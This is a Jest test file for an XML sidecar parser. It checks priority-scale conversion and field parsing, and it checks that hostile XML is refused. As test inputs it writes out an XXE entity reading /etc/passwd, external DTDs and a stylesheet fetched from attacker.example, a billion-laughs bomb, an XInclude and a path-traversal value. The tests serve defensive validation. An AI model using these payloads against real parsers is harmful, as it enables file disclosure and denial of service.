import { ValidationError } from '../../lib/errors';
import { parseSidecar, type SidecarParseOptions } from './parse';

const NS = 'xmlns="urn:mxhub:sidecar:1"';
const doc = (body: string, root = `<sidecar ${NS} version="2">`) =>
  `<?xml version="1.0" encoding="UTF-8"?>\n${root}${body}</sidecar>`;
const minimal = '<title>Clip</title><materialId>M-1</materialId>';

/** The rule a refused sidecar was refused under, or 'ok'. */
function ruleOf(xml: string | Buffer, options?: SidecarParseOptions): string {
  try {
    parseSidecar(xml, options);
    return 'ok';
  } catch (error) {
    if (!(error instanceof ValidationError)) throw error;
    return String(error.details?.rule);
  }
}

function refusal(xml: string): ValidationError {
  try {
    parseSidecar(xml);
  } catch (error) {
    return error as ValidationError;
  }
  throw new Error('expected the sidecar to be refused');
}

describe('parseSidecar: one priority scale (1 highest .. 10 lowest)', () => {
  const priorityOf = (root: string, notes: string[] = []) =>
    parseSidecar(doc(`${minimal}<priority>8</priority>`, root), { onDeprecated: (n) => notes.push(n) }).priority;

  it('reads a version 2 priority as written, without a deprecation note', () => {
    const notes: string[] = [];
    expect(priorityOf(`<sidecar ${NS} version="2">`, notes)).toBe(8);
    expect(notes).toEqual([]);
  });

  it('reads a sidecar without a version as version 2', () => {
    expect(priorityOf(`<sidecar ${NS}>`)).toBe(8);
  });

  it('converts a version 1 priority (10 highest) to the one scale and reports it deprecated', () => {
    const notes: string[] = [];
    expect(priorityOf(`<sidecar ${NS} version="1">`, notes)).toBe(3);
    expect(notes).toEqual([expect.stringMatching(/^sidecar version 1 is deprecated/)]);
    expect(parseSidecar(doc(`${minimal}<priority>10</priority>`, `<sidecar ${NS} version="1">`)).priority).toBe(1);
    expect(parseSidecar(doc(`${minimal}<priority>1</priority>`, `<sidecar ${NS} version="1">`)).priority).toBe(10);
  });

  it('says nothing about a version 1 sidecar without a priority: nothing in it changed meaning', () => {
    const notes: string[] = [];
    parseSidecar(doc(minimal, `<sidecar ${NS} version="1">`), { onDeprecated: (n) => notes.push(n) });
    expect(notes).toEqual([]);
  });
});

describe('parseSidecar: the agreed format', () => {
  it('reads every field into a typed Sidecar', () => {
    const xml = doc(`
      <title>Evening news: opener &amp; headlines &#x2014; live</title>
      <materialId>MAT-2026-00042</materialId>
      <programmeId>PRG/778:3</programmeId>
      <category>news</category>
      <description><![CDATA[Opening <sequence>]]></description>
      <destinations><destination>broadcast</destination><destination>archive</destination></destinations>
      <priority> 8 </priority>
      <checksum>${'AB'.repeat(32)}</checksum>
      <duration>00:01:30;12</duration>
      <rights>Internal use only</rights>
      <!-- free items -->
      <extra><item key="camera">A-cam</item><item key="shot.location">Studio 4</item></extra>`);
    expect(parseSidecar(xml)).toEqual({
      title: 'Evening news: opener & headlines \u2014 live',
      materialId: 'MAT-2026-00042',
      programmeId: 'PRG/778:3',
      category: 'news',
      description: 'Opening <sequence>',
      destinations: ['broadcast', 'archive'],
      priority: 8,
      checksum: 'ab'.repeat(32),
      duration: { kind: 'timecode', hours: 0, minutes: 1, seconds: 30, frames: 12, dropFrame: true },
      rights: 'Internal use only',
      extra: [
        { key: 'camera', value: 'A-cam' },
        { key: 'shot.location', value: 'Studio 4' },
      ],
    });
  });

  it('accepts a minimal sidecar, a byte-order mark and a missing namespace declaration', () => {
    expect(parseSidecar(doc(minimal))).toEqual({ title: 'Clip', materialId: 'M-1', destinations: [], extra: [] });
    expect(ruleOf(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(doc(minimal))]))).toBe('ok');
    expect(ruleOf(`<sidecar>${minimal}</sidecar>`)).toBe('ok');
    expect(
      parseSidecar(doc('<title>x</title><programmeId>P1</programmeId><duration>90.5</duration>')).duration,
    ).toEqual({ kind: 'seconds', seconds: 90.5 });
  });
});

describe('parseSidecar: hostile documents', () => {
  it('refuses XXE through an external entity without reading anything', () => {
    const xxe = `<?xml version="1.0"?><!DOCTYPE sidecar [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><sidecar><title>&xxe;</title><materialId>M</materialId></sidecar>`;
    const error = refusal(xxe);
    expect(error.details).toEqual({ rule: 'sidecar.doctype' });
    expect(error.message).not.toMatch(/root:|passwd/);
  });

  it('refuses an external DTD and a parameter entity', () => {
    expect(ruleOf(`<!DOCTYPE sidecar SYSTEM "http://attacker.example/x.dtd"><sidecar>${minimal}</sidecar>`)).toBe(
      'sidecar.doctype',
    );
    expect(
      ruleOf(
        `<!DOCTYPE sidecar [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><sidecar>${minimal}</sidecar>`,
      ),
    ).toBe('sidecar.doctype');
  });

  it('refuses billion laughs at once, without expanding anything', () => {
    const entities = [
      '<!ENTITY lol0 "lol">',
      ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`),
    ];
    const bomb = `<?xml version="1.0"?><!DOCTYPE sidecar [${entities.join('')}]><sidecar><title>&lol9;</title><materialId>M</materialId></sidecar>`;
    const started = process.hrtime.bigint();
    const error = refusal(bomb);
    expect(Number(process.hrtime.bigint() - started) / 1e6).toBeLessThan(200);
    expect(error.details).toEqual({ rule: 'sidecar.doctype' });
    expect(error.message).not.toContain('lol');
  });

  it('refuses entity references other than the predefined ones, even without a DTD', () => {
    expect(refusal(doc('<title>&xxe;</title><materialId>M</materialId>')).details).toEqual({
      rule: 'sidecar.entity',
      element: 'title',
    });
  });

  it('refuses processing instructions other than the XML declaration', () => {
    expect(ruleOf(`<?xml-stylesheet href="http://attacker.example/x.xsl"?><sidecar>${minimal}</sidecar>`)).toBe(
      'sidecar.processing-instruction',
    );
    expect(ruleOf(doc(`${minimal}<?php echo 1; ?>`))).toBe('sidecar.processing-instruction');
  });

  it('limits size and depth', () => {
    const big = doc(`${minimal}<description>${'x'.repeat(300 * 1024)}</description>`);
    expect(ruleOf(big)).toBe('sidecar.too-large');
    expect(ruleOf(doc(minimal), { maxBytes: 64 })).toBe('sidecar.too-large');
    const nested = doc(`${minimal}<destinations><destination>broadcast</destination></destinations>`);
    expect(ruleOf(nested, { maxDepth: 2 })).toBe('sidecar.depth');
    expect(ruleOf(nested, { maxDepth: 3 })).toBe('ok');
    expect(ruleOf(`${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}`, { maxDepth: 16 })).toBe('sidecar.root');
    expect(ruleOf(`<sidecar>${'<extra>'.repeat(40)}`, { maxDepth: 16 })).toBe('sidecar.unknown-element');
  });

  it('refuses other encodings and malformed XML, with a position', () => {
    expect(ruleOf(Buffer.from(doc('<title>caf\u00e9</title><materialId>M</materialId>'), 'latin1'))).toBe(
      'sidecar.encoding',
    );
    expect(ruleOf(`<?xml version="1.0" encoding="ISO-8859-1"?><sidecar>${minimal}</sidecar>`)).toBe('sidecar.encoding');
    expect(refusal(`<sidecar>${minimal}`).message).toMatch(/not well-formed XML \(line 1, column \d+\)/);
    expect(ruleOf(doc(`stray text${minimal}`))).toBe('sidecar.malformed');
  });
});

describe('parseSidecar: structure and values', () => {
  it.each([
    ['another root element', `<asset ${NS}>${minimal}</asset>`, 'sidecar.root'],
    ['an unknown element', doc(`${minimal}<owner>x</owner>`), 'sidecar.unknown-element'],
    ['XInclude', doc(`${minimal}<xi:include href="file:///etc/passwd"/>`), 'sidecar.unknown-element'],
    [
      'a child inside a value element',
      doc('<title><b>x</b></title><materialId>M</materialId>'),
      'sidecar.unknown-element',
    ],
    [
      'an unknown attribute',
      doc(minimal, `<sidecar ${NS} xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x">`),
      'sidecar.unknown-attribute',
    ],
    ['another namespace', doc(minimal, '<sidecar xmlns="urn:other">'), 'sidecar.invalid-value'],
    ['another version', doc(minimal, `<sidecar ${NS} version="3">`), 'sidecar.invalid-value'],
    ['a repeated element', doc(`${minimal}<title>again</title>`), 'sidecar.duplicate-element'],
    ['no title', doc('<materialId>M</materialId>'), 'sidecar.missing-element'],
    ['neither materialId nor programmeId', doc('<title>x</title>'), 'sidecar.missing-element'],
    ['an empty element', doc(`${minimal}<rights> </rights>`), 'sidecar.invalid-value'],
    ['priority 0', doc(`${minimal}<priority>0</priority>`), 'sidecar.invalid-value'],
    ['priority 11', doc(`${minimal}<priority>11</priority>`), 'sidecar.invalid-value'],
    ['priority 5.5', doc(`${minimal}<priority>5.5</priority>`), 'sidecar.invalid-value'],
    [
      'a checksum that is not SHA-256',
      doc(`${minimal}<checksum>${'a'.repeat(40)}</checksum>`),
      'sidecar.invalid-value',
    ],
    ['a bad duration', doc(`${minimal}<duration>1:30</duration>`), 'sidecar.invalid-value'],
    ['a timecode with 61 seconds', doc(`${minimal}<duration>00:00:61:00</duration>`), 'sidecar.invalid-value'],
    [
      'a destination that is not a network id',
      doc(`${minimal}<destinations><destination>../etc</destination></destinations>`),
      'sidecar.invalid-value',
    ],
    [
      'a repeated extra key',
      doc(`${minimal}<extra><item key="a">1</item><item key="a">2</item></extra>`),
      'sidecar.duplicate-element',
    ],
    ['an item without key', doc(`${minimal}<extra><item>1</item></extra>`), 'sidecar.invalid-value'],
    ['a control character', doc('<title>a\u0085b</title><materialId>M</materialId>'), 'sidecar.invalid-value'],
    [
      'too many destinations',
      doc(`${minimal}<destinations>${'<destination>x</destination>'.repeat(33)}</destinations>`),
      'sidecar.invalid-value',
    ],
  ])('refuses %s', (_what, xml, rule) => {
    expect(ruleOf(xml)).toBe(rule);
  });

  it('answers with a ValidationError naming element and rule, never the value', () => {
    const error = refusal(doc(`${minimal}<priority>SECRET-VALUE</priority>`));
    expect(error).toBeInstanceOf(ValidationError);
    expect(error).toMatchObject({
      code: 'MXHUB_ERR_VALIDATION',
      status: 400,
      details: { rule: 'sidecar.invalid-value', element: 'priority' },
    });
    expect(error.message).toBe('sidecar <priority> must be a whole number from 1 to 10 (rule sidecar.invalid-value)');
    expect(refusal(doc(`${minimal}<\u202Eevil>x</\u202Eevil>`)).message).not.toContain('\u202E');
  });
});
